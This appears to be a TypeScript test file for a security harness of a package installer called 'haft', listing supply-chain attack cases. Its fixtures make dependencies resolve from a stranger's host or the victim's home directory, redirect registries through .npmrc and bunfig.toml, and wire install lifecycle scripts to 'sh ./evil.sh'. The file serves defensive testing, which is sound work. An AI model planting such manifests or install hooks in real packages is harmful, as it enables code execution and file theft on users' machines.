/** A package of the user's own registry whose dependencies come from elsewhere. */
import type { Attack, Kind } from "./case.ts";
import type { Ran, World } from "./world.ts";

/** package.json of the package; HOST is the stranger's, HOME the victim's home. */
const MANIFESTS: Readonly<Record<string, Record<string, unknown>>> = {
  "by git+http": { dependencies: { helper: "git+http://HOST/helper.git" } },
  "by git+http with a commit": { dependencies: { helper: `git+http://HOST/helper.git#${"a".repeat(40)}` } },
  "by git+ssh": { dependencies: { helper: "git+ssh://git@HOST/helper.git" } },
  "by git:": { dependencies: { helper: "git://HOST/helper.git" } },
  "by scp's words": { dependencies: { helper: "git@127.0.0.1:helper.git" } },
  "by git+file": { dependencies: { helper: "git+file://HOME/src/good" } },
  "by http": { dependencies: { helper: "http://HOST/helper.tgz" } },
  "by http, optional": { optionalDependencies: { helper: "http://HOST/helper.tgz" } },
  "by http, as a peer": { peerDependencies: { helper: "http://HOST/helper.tgz" } },
  "by http, under another's name": { dependencies: { prettier: "http://HOST/helper.tgz" } },
  "by a file of the home": { dependencies: { helper: "file:HOME/src/good" } },
  "by a relative file": { dependencies: { helper: "file:../../../../../../src/good" } },
  "by a link": { dependencies: { helper: "link:HOME/src/good" } },
  "by workspace:": { dependencies: { helper: "workspace:*" }, workspaces: ["HOME/src/*"] },
  "by overrides": {
    dependencies: { helper: "1.0.0" },
    overrides: { helper: "http://HOST/helper.tgz" },
    resolutions: { helper: "http://HOST/helper.tgz" },
  },
  "by patches": {
    dependencies: { helper: "1.0.0" },
    patchedDependencies: { "helper@1.0.0": "HOME/precious" },
  },
  "by its own settings": {
    publishConfig: { registry: "http://HOST/" },
    config: { registry: "http://HOST/" },
  },
};

/** The same, one package further. */
const NESTED: Readonly<Record<string, Record<string, unknown>>> = {
  "by http, of a dependency": { dependencies: { between: "1.0.0" } },
  "by git, of a dependency": { dependencies: { "between-git": "1.0.0" } },
};

const SCRIPTS = Object.fromEntries(
  ["preinstall", "install", "postinstall", "prepare", "prepublish", "preprepare"].map((
    name,
  ) => [name, "sh ./evil.sh"]),
);

function nameOf({ root }: World): string {
  return `deps-${root.slice(-6).toLowerCase().replaceAll(/[^a-z0-9]/g, "x")}`;
}

async function publish(world: World, manifest: Record<string, unknown>): Promise<void> {
  const text = JSON.stringify(manifest).replaceAll("HOST", world.host.host).replaceAll("HOME", world.home);
  await world.registry.addPackage(
    { name: nameOf(world), version: "1.0.0", bin: { harmless: "bin.js" }, ...JSON.parse(text) },
    {
      "bin.js": { content: "#!/usr/bin/env node\nconsole.log('the real one');\n", mode: 0o755 },
      "evil.sh": { content: world.evil("a script of the package"), mode: 0o755 },
      "binding.gyp": "{}",
      ".npmrc": `registry=${world.host.url}\n`,
      "bunfig.toml": `preload = ["./evil.js"]\n[install]\nregistry = "${world.host.url}"\n`,
    },
  );
}

async function install(world: World, manifest: Record<string, unknown>): Promise<Ran> {
  world.file(
    `${world.good}/package.json`,
    JSON.stringify({ name: "helper", version: "1.0.0", scripts: SCRIPTS }),
  );
  world.file(`${world.good}/evil.sh`, world.evil("a script of a dependency"), 0o755);
  const between = nameOf(world) + "-between";
  for (const [kind, address] of [["", "http://HOST/helper.tgz"], ["-git", "git+http://HOST/helper.git"]]) {
    await world.registry.addPackage({
      name: between + kind,
      version: "1.0.0",
      dependencies: { helper: address?.replace("HOST", world.host.host) },
    });
  }
  await publish(world, JSON.parse(JSON.stringify(manifest).replaceAll('"between', `"${between}`)));
  const helper = await world.host.registry.addPackage(
    { name: "helper", version: "1.0.0", scripts: SCRIPTS },
    {
      "evil.sh": { content: world.evil("a script of the stranger's"), mode: 0o755 },
    },
  );
  world.host.registry.addFile("/helper.tgz", helper.tarball);
  world.file("haft.toml", `[tools]\n"npm:${nameOf(world)}" = "1"\n`);
  return await world.shell(`haft sync; haft install npm:${nameOf(world)}@1; haft x harmless`);
}

export const dependencies: Kind = {
  kind: "dependencies",
  attacks: [
    ...Object.entries(MANIFESTS).map(([name, manifest]): Attack => ({
      name,
      run: async (world) => void await install(world, manifest),
    })),
    ...Object.entries(NESTED).map(([name, manifest]): Attack => ({
      name,
      // What a dependency's dependency is, the installer learns while it fetches: haft refuses what came, and
      // git may use no protocol.
      allow: ["contact", "command"],
      run: async (world) => {
        const { output } = await install(world, manifest);
        if (output.includes("the real one")) world.complain("answer", output);
      },
    })),
    {
      name: "scripts of the package and of its dependency",
      run: async (world) =>
        await install(world, {
          dependencies: { helper: "1.0.0" },
          scripts: SCRIPTS,
          gypfile: true,
          trustedDependencies: ["helper"],
        }),
    },
    {
      name: "a package with a harmless dependency runs",
      run: async (world) => {
        await install(world, { dependencies: { helper: "1.0.0" } });
        const { output } = await world.haft("x", "harmless");
        if (!output.includes("the real one")) world.complain("answer", output);
      },
    },
    {
      name: "a dependency by http is fetched by an installer that is not haft",
      sees: "contact",
      run: async (world) => {
        world.file(
          "package.json",
          JSON.stringify({ dependencies: { helper: `http://${world.host.host}/helper.tgz` } }),
        );
        await world.shell('BUN_BE_BUN=1 "$(command -v haft)" install');
      },
    },
  ],
};
